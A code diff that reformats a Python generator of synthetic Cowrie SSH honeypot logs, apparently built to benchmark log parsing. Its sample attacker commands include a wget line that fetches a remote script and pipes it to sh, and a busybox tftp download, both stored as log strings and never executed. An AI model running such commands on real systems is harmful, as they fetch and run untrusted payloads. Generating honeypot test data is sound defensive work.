@@ -26,8 +26,15 @@ _SESSION_START_MARGIN_S = 3_600  # sessions start early enough to end before mid
 _MEAN_EVENT_GAP_S = 0.4  # the sample days: median gap 0.2 s, 90% under 1.3 s, sessions ~1.3 s long
 _MAX_EVENT_GAP_S = 30.0
 # Long arrays like the real `cowrie.client.version` events: they make up much of a real log's bytes.
-_KEX = ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521",
-        "diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha1", "ext-info-c"]
+_KEX = [
+    "curve25519-sha256@libssh.org",
+    "ecdh-sha2-nistp256",
+    "ecdh-sha2-nistp384",
+    "ecdh-sha2-nistp521",
+    "diffie-hellman-group-exchange-sha256",
+    "diffie-hellman-group14-sha1",
+    "ext-info-c",
+]
 _KEYS = ["ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa"]
 _CIPHERS = ["aes256-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes256-ctr", "aes128-ctr", "aes128-cbc"]
 _MACS = ["hmac-sha2-256-etm@openssh.com", "hmac-sha1-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"]
@@ -35,8 +42,13 @@ _CLIENTS = ["SSH-2.0-OpenSSH_7.7", "SSH-2.0-libssh2_1.8.0", "SSH-2.0-Go", "SSH-2
 _USERS = ["root", "admin", "user", "pi", "ubnt", "support", "oracle", "test", "guest", "usuario"]
 # Attacker-controlled text comes in any script and with quotes and backslashes; all of it stays valid JSON.
 _PASSWORDS = ["123456", "admin", "password", "root", "1qaz@WSX", "pässwörd", "密码123", 'x"y\\z', "raspberry", ""]
-_COMMANDS = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "wget http://198.51.100.7/x.sh -O- | sh",
-             "echo -e '\\x41\\x42'", "cd /tmp; busybox tftp -g 192.0.2.1"]
+_COMMANDS = [
+    "uname -a",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "wget http://198.51.100.7/x.sh -O- | sh",
+    "echo -e '\\x41\\x42'",
+    "cd /tmp; busybox tftp -g 192.0.2.1",
+]
 
 
 @dataclass(frozen=True)
@@ -98,11 +110,21 @@ class _SessionWriter:
         src_port = rng.randrange(1024, 65536)
         base = {"session": session, "src_ip": ip, "sensor": SENSOR, "isError": 0}
         system = f"HoneyPotSSHTransport,{rng.randrange(100000)},{ip}"
-        out: list[tuple[float, dict[str, Any]]] = [(clock, {
-            "eventid": "cowrie.session.connect", **base, "src_port": src_port, "dst_ip": HONEYPOT_IP,
-            "dst_port": HONEYPOT_PORT, "protocol": "ssh", "system": "cowrie.ssh.factory.CowrieSSHFactory",
-            "message": f"New connection: {ip}:{src_port} ({HONEYPOT_IP}:{HONEYPOT_PORT}) [session: {session}]",
-        })]
+        out: list[tuple[float, dict[str, Any]]] = [
+            (
+                clock,
+                {
+                    "eventid": "cowrie.session.connect",
+                    **base,
+                    "src_port": src_port,
+                    "dst_ip": HONEYPOT_IP,
+                    "dst_port": HONEYPOT_PORT,
+                    "protocol": "ssh",
+                    "system": "cowrie.ssh.factory.CowrieSSHFactory",
+                    "message": f"New connection: {ip}:{src_port} ({HONEYPOT_IP}:{HONEYPOT_PORT}) [session: {session}]",
+                },
+            )
+        ]
         started = clock
         middle = length - 2  # a one-event session is a connection still open at rotation
         for position in range(max(middle, 0)):
@@ -110,26 +132,49 @@ class _SessionWriter:
             out.append((clock, {**base, "system": system, **self._middle_event(position, middle)}))
         if length >= 2:
             clock += _gap(rng)
-            out.append((clock, {
-                "eventid": "cowrie.session.closed", **base, "system": system,
-                "duration": round(clock - started, 6),
-                "message": f"Connection lost after {int(clock - started)} seconds",
-            }))
+            out.append(
+                (
+                    clock,
+                    {
+                        "eventid": "cowrie.session.closed",
+                        **base,
+                        "system": system,
+                        "duration": round(clock - started, 6),
+                        "message": f"Connection lost after {int(clock - started)} seconds",
+                    },
+                )
+            )
         return out
 
     def _middle_event(self, position: int, count: int) -> dict[str, Any]:
         rng = self._rng
         if position == 0:
             version = rng.choice(_CLIENTS)
-            return {"eventid": "cowrie.client.version", "version": version, "message": f"Remote SSH version: {version}",
-                    "kexAlgs": _KEX, "keyAlgs": _KEYS, "encCS": _CIPHERS, "macCS": _MACS, "compCS": ["none", "zlib"]}
+            return {
+                "eventid": "cowrie.client.version",
+                "version": version,
+                "message": f"Remote SSH version: {version}",
+                "kexAlgs": _KEX,
+                "keyAlgs": _KEYS,
+                "encCS": _CIPHERS,
+                "macCS": _MACS,
+                "compCS": ["none", "zlib"],
+            }
         username, password = rng.choice(_USERS), rng.choice(_PASSWORDS)
         if position < count - 2 or count < 4:
-            return {"eventid": "cowrie.login.failed", "username": username, "password": password,
-                    "message": f"login attempt [{username}/{password}] failed"}
+            return {
+                "eventid": "cowrie.login.failed",
+                "username": username,
+                "password": password,
+                "message": f"login attempt [{username}/{password}] failed",
+            }
         if position == count - 2:
-            return {"eventid": "cowrie.login.success", "username": username, "password": password,
-                    "message": f"login attempt [{username}/{password}] succeeded"}
+            return {
+                "eventid": "cowrie.login.success",
+                "username": username,
+                "password": password,
+                "message": f"login attempt [{username}/{password}] succeeded",
+            }
         command = rng.choice(_COMMANDS)
         return {"eventid": "cowrie.command.input", "input": command, "message": f"CMD: {command}"}
 
@@ -167,14 +212,15 @@ def write_day(
     builder = _SessionWriter(rng)
     sessions = [
         builder.events(ip, length)
-        for ip, count in zip(addresses, events_per_ip(ips, events, rng))
+        for ip, count in zip(addresses, events_per_ip(ips, events, rng), strict=False)
         for length in builder.session_lengths(count)
     ]
     path = Path(directory) / f"cowrie.json.{day.isoformat()}{'.gz' if gzipped else ''}"
     path.parent.mkdir(parents=True, exist_ok=True)
     # compresslevel 1: the benchmark measures reading, not how long we spent compressing.
-    with (gzip.open(path, "wt", encoding="utf-8", compresslevel=1) if gzipped
-          else open(path, "w", encoding="utf-8")) as stream:
+    with (
+        gzip.open(path, "wt", encoding="utf-8", compresslevel=1) if gzipped else open(path, "w", encoding="utf-8")
+    ) as stream:
         written = _write_in_time_order(stream, sessions, day.isoformat())
     return SyntheticDay(path, tuple(addresses), written, len(sessions))
 
@@ -210,8 +256,9 @@ def main(argv: Sequence[str] | None = None) -> int:
     parser.add_argument("--seed", type=int, default=0)
     parser.add_argument("--gzip", action="store_true", help="write cowrie.json.<day>.gz")
     args = parser.parse_args(argv)
-    written = write_day(args.directory, args.day, ips=args.ips, events=args.events or 10 * args.ips,
-                        seed=args.seed, gzipped=args.gzip)
+    written = write_day(
+        args.directory, args.day, ips=args.ips, events=args.events or 10 * args.ips, seed=args.seed, gzipped=args.gzip
+    )
     print(f"{written.path}: {len(written.ips)} IPs, {written.events} events, {written.sessions} sessions")
     return 0
 
